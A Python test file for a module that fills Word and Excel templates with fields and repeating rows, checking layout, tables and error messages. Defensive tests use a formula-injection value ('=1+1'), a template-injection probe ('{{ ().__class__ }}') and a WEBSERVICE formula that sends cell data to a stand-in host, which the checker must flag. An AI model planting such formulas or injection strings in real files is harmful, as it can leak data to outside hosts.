"""Templates are filled as they were made: rows repeat, the rest stays, and nothing that is put in is a formula."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import docx
import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from heed.kit.writing.templates import Fields, example_template, fill_template, look_at_template

FIELDS = Fields(
    facts={"title": "Title", "partnership": "Partnership"},
    row={"reference": "Reference", "owner": "Owner", "moves": "Times moved"},
)
FACTS = {"title": "Actions & more", "partnership": "Westmere"}
ROWS = [
    {"row.reference": "ACT-1", "row.owner": "=1+1", "row.moves": 2},
    {"row.reference": "ACT-2", "row.owner": "Ann <Bell>\x00 {{ title }}", "row.moves": 0},
    {"row.reference": "ACT-3", "row.owner": "", "row.moves": 1},
]


def word(make: Callable[[Any], None]) -> bytes:
    document = docx.Document()
    make(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def excel(make: Callable[[Any, Any], None], name: str = "Plan") -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"strings_to_formulas": False}) as book:
        make(book, book.add_worksheet(name))
    return out.getvalue()


def form_of(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return "docx" if "word/document.xml" in book.namelist() else "xlsx"


def troubles(data: bytes) -> list[tuple[str, str]]:
    return [(each.words, each.where) for each in look_at_template(data, form_of(data), FIELDS).troubles]


def fill(data: bytes, rows: list[dict[str, Any]] = ROWS) -> bytes:
    return fill_template(data, form_of(data), FIELDS, FACTS, rows)


def cells(data: bytes) -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def member(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return book.read(name).decode()


def a_letter(document: Any) -> None:
    """The first field as Word keeps it once somebody has corrected a letter of it."""
    first = document.add_paragraph()
    for piece in ("To {{ Par", "tner", "ship }}, about {{title}}"):
        first.add_run(piece).bold = True
    table = document.add_table(rows=2, cols=2)
    table.rows[0].cells[0].text = "What"
    table.rows[1].cells[0].text = "{{ row.reference }}: {{ Times moved }}"
    table.rows[1].cells[1].text = "{{ row.owner }}"
    document.add_paragraph("{{ row.reference }} is next")
    document.add_paragraph("of {{ row.owner }}")
    document.add_paragraph("The end")
    document.sections[0].footer.paragraphs[0].text = "{{ title }}"


def test_word_repeats_rows_and_paragraphs_and_keeps_the_rest() -> None:
    data = word(a_letter)
    assert troubles(data) == []
    made = docx.Document(io.BytesIO(fill(data)))
    assert made.paragraphs[0].text == "To Westmere, about Actions & more"
    assert made.paragraphs[0].runs[0].bold
    (table,) = made.tables
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["What", ""],
        ["ACT-1: 2", "=1+1"],
        ["ACT-2: 0", "Ann <Bell> {{ title }}"],
        ["ACT-3: 1", ""],
    ]
    assert [each.text for each in made.paragraphs[1:]] == [
        *("ACT-1 is next", "of =1+1", "ACT-2 is next", "of Ann <Bell> {{ title }}", "ACT-3 is next", "of "),
        "The end",
    ]
    assert made.sections[0].footer.paragraphs[0].text == "Actions & more"


def a_sheet(book: Any, sheet: Any) -> None:
    sheet.write(0, 0, "{{ title }} of {{ partnership }}")
    sheet.write_row(2, 0, ["Reference", "Owner", "Moved"])
    sheet.write_row(3, 0, ["{{ row.reference }}", "{{ row.owner }}", "{{ row.moves }}"])
    sheet.write_formula(4, 2, "=SUM(C4:C4)+C1", value=0)
    sheet.write(5, 0, "Under {{ title }}")
    sheet.merge_range("A7:C7", "The end")
    sheet.autofilter("A3:C4")
    sheet.print_area("A1:C6")
    sheet.conditional_format("C4", {"type": "cell", "criteria": ">", "value": 1})


def test_excel_repeats_rows_and_moves_what_is_beneath() -> None:
    data = excel(a_sheet, "Bo's plan")
    assert troubles(data) == []
    made = fill(data)
    rows = cells(made)
    assert rows[0][0] == "Actions & more of Westmere"
    assert rows[3:6] == [
        ["ACT-1", "=1+1", 2.0],
        ["ACT-2", "Ann <Bell> {{ title }}", 0.0],
        ["ACT-3", "", 1.0],
    ]
    assert rows[7][0] == "Under Actions & more"
    sheet = member(made, "xl/worksheets/sheet1.xml")
    assert re.findall(r"<f>([^<]*)</f>", sheet) == ["SUM(C4:C6)+C1"]
    assert '<mergeCell ref="A9:C9"/>' in sheet
    assert '<autoFilter ref="A3:C6"' in sheet
    assert 'conditionalFormatting sqref="C4"' in sheet or 'sqref="C4:C6"' in sheet
    assert "$A$1:$C$8" in member(made, "xl/workbook.xml")


def test_an_excel_table_grows_with_its_rows() -> None:
    def make(book: Any, sheet: Any) -> None:
        columns = [{"header": "Reference"}, {"header": "Owner"}]
        sheet.add_table("A1:B2", {"columns": columns})
        sheet.write_row(1, 0, ["{{ row.reference }}", "{{ row.owner }}"])

    made = fill(excel(make))
    assert 'ref="A1:B4"' in member(made, "xl/tables/table1.xml")
    assert [row[0] for row in cells(made)] == ["Reference", "ACT-1", "ACT-2", "ACT-3"]


@pytest.mark.parametrize("form", ["docx", "xlsx"])
def test_the_example_is_a_template_as_it_stands(form: str) -> None:
    data = example_template(form, FIELDS, ["reference", "owner"])
    looked = look_at_template(data, form, FIELDS)
    assert looked.troubles == ()
    assert {each.name for each in looked.found} == {"title", "partnership", "reference", "owner"}
    made = fill(data)
    words = member(made, "word/document.xml" if form == "docx" else "xl/worksheets/sheet1.xml")
    assert all(each in words for each in ("Actions &amp; more", "ACT-1", "ACT-3"))


def test_no_row_leaves_an_empty_one() -> None:
    assert [row[:2] for row in cells(fill(excel(a_sheet), []))][2:4] == [
        ["Reference", "Owner"],
        ["", ""],
    ]


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("{{ row.onwer }}", "There is no field “row.onwer”: did you mean {{ row.owner }}?"),
        ("{{ xyzzy }}", "There is no field “xyzzy”"),
        ("{{ title", "Two brackets are opened or closed alone: a field is written {{ so }}"),
        (
            "{% for row in rows %}",
            "A template has fields only: whatever has a field of a row repeats by itself",
        ),
        ("{{ ().__class__ }}", "There is no field “().__class__”"),
    ],
)
def test_what_is_wrong_is_named_with_where_it_is(text: str, says: str) -> None:
    in_word = word(lambda document: document.add_paragraph(f"See {text}"))
    assert (says, f"At: “See {text}”") in troubles(in_word)
    in_excel = excel(lambda book, sheet: sheet.write(4, 1, text))
    assert (says, "Plan!B5") in troubles(in_excel)


def test_a_template_without_fields_of_rows_would_leave_them_out() -> None:
    ((words, _),) = troubles(word(lambda document: document.add_paragraph("{{ title }}")))
    assert "no field of a row" in words
    ((words, _),) = troubles(word(lambda document: document.add_paragraph("Title")))
    assert "no field, so nothing" in words


def test_what_cannot_repeat_is_refused() -> None:
    def two(book: Any, sheet: Any) -> None:
        sheet.write(1, 0, "{{ row.reference }}")
        sheet.write(3, 0, "{{ row.owner }}")

    assert "rows 2, 4" in troubles(excel(two))[0][0]

    def formula(book: Any, sheet: Any) -> None:
        sheet.write(1, 0, "{{ row.reference }}")
        sheet.write_formula(1, 1, "=A1")
        sheet.write_formula(2, 1, '=WEBSERVICE("https://vale.example/"&A2)')

    assert [words.split(":")[0] for words, _ in troubles(excel(formula))] == [
        "A row that repeats holds a formula",
        "A formula fetches or opens something from elsewhere",
    ]

    def header(document: Any) -> None:
        document.add_paragraph("{{ row.owner }}")
        document.sections[0].header.paragraphs[0].text = "{{ row.owner }}"

    assert troubles(word(header)) == [
        ("A field of a row cannot repeat here: put it into the body", "In the header: “{{ row.owner }}”")
    ]


def test_a_damaged_file_is_named() -> None:
    data = example_template("docx", FIELDS, ["owner"])
    for bad in (data[:200], b"", b"PK\x03\x04 and no more"):
        looked = look_at_template(bad, "docx", FIELDS)
        assert [each.words for each in looked.troubles] == [
            "It is damaged and cannot be opened: save it again"
        ]
    assert look_at_template(data, "xlsx", FIELDS).troubles
